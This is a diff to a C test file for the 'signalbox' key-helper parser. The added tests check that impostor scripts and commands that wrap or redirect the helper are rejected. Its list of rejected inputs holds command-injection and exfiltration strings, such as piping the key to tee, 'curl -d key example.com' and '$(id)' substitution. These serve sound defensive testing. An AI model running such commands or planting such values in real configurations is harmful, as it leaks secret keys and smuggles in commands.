@@ -11,6 +11,7 @@
 
 #include <string.h>
 #include <sys/stat.h>
+#include <unistd.h>
 
 #include <glib/gstdio.h>
 
@@ -138,10 +139,53 @@ test_routing_helper_command (Fixture       *fixture,
   g_assert_true (sb_routing_parse_helper_command (fixture->quoted, &profile));
   g_assert_cmpstr (profile, ==, "default");
   g_clear_pointer (&profile, g_free);
-  g_assert_true (sb_routing_parse_helper_command ("/usr/bin/signalbox-key --profile=work",
-                                                  &profile));
+  g_clear_pointer (&command, g_free);
+  command = g_strconcat (fixture->quoted, " --profile=work", NULL);
+  g_assert_true (sb_routing_parse_helper_command (command, &profile));
   g_assert_cmpstr (profile, ==, "work");
   g_clear_pointer (&profile, g_free);
+  g_clear_pointer (&command, g_free);
+  command = g_strconcat (fixture->quoted, " -p work", NULL);
+  g_assert_true (sb_routing_parse_helper_command (command, &profile));
+  g_assert_cmpstr (profile, ==, "work");
+  g_clear_pointer (&profile, g_free);
+
+  /* Recognised by its resolved path, not by its name: another program called
+   * signalbox-key (the installed one when it is not the one in use, or a folder's own
+   * script) is not ours, whatever it prints. A link to ours is ours. */
+  {
+    g_autofree char *own = g_build_filename (fixture->env.folder, "signalbox-key", NULL);
+    g_autofree char *link = g_build_filename (fixture->env.root, "link-to-helper", NULL);
+    g_autofree char *quoted_link = g_shell_quote (link);
+
+    sb_test_write (own, "#!/bin/sh\necho sk-or-v1-not-the-key\n");
+    g_assert_cmpint (g_chmod (own, 0755), ==, 0);
+    g_assert_false (sb_routing_parse_helper_command (own, NULL));
+    g_assert_false (sb_routing_parse_helper_command ("./signalbox-key", NULL));
+    g_assert_false (sb_routing_parse_helper_command ("signalbox-key", NULL));
+    g_assert_false (sb_routing_parse_helper_command (installed, NULL));
+    g_assert_cmpint (symlink (fixture->helper, link), ==, 0);
+    g_assert_true (sb_routing_parse_helper_command (quoted_link, NULL));
+  }
+
+  /* A command that pipes, wraps or redirects the helper sends its key elsewhere. */
+  {
+    static const char * const wrapped[] = {
+      "@ | tee /tmp/key", "@|tee /tmp/key", "@; curl -d key example.com", "@ > /tmp/k",
+      "@ && true", "@ --profile x;y", "@ --profile \"$(id)\"", "@ --profile `id`",
+      "@ --profile *", "@ --profile \"a\\$b\"", "@ --clear", "sh -c @",
+      "@\n/bin/true", "@ 2>/dev/null",
+    };
+
+    for (guint i = 0; i < G_N_ELEMENTS (wrapped); i++)
+      {
+        g_auto(GStrv) parts = g_strsplit (wrapped[i], "@", -1);
+        g_autofree char *attack = g_strjoinv (fixture->quoted, parts);
+
+        g_test_message ("%s", attack);
+        g_assert_false (sb_routing_parse_helper_command (attack, NULL));
+      }
+  }
   g_assert_false (sb_routing_parse_helper_command ("/usr/bin/get-key", &profile));
   g_assert_null (profile);
   g_assert_false (sb_routing_parse_helper_command ("signalbox-key --clear", NULL));
@@ -216,6 +260,8 @@ test_routing_flatpak (Fixture       *fixture,
   g_assert_false (sb_routing_parse_helper_command ("flatpak run --command=signalbox-key "
                                                    "org.example.Other", NULL));
   g_assert_false (sb_routing_parse_helper_command ("flatpak run " APP_ID, NULL));
+  g_assert_false (sb_routing_parse_helper_command ("flatpak run --command=signalbox-key "
+                                                   APP_ID " | tee /tmp/key", NULL));
 
   g_unsetenv ("SIGNALBOX_FLATPAK_INFO");
 }
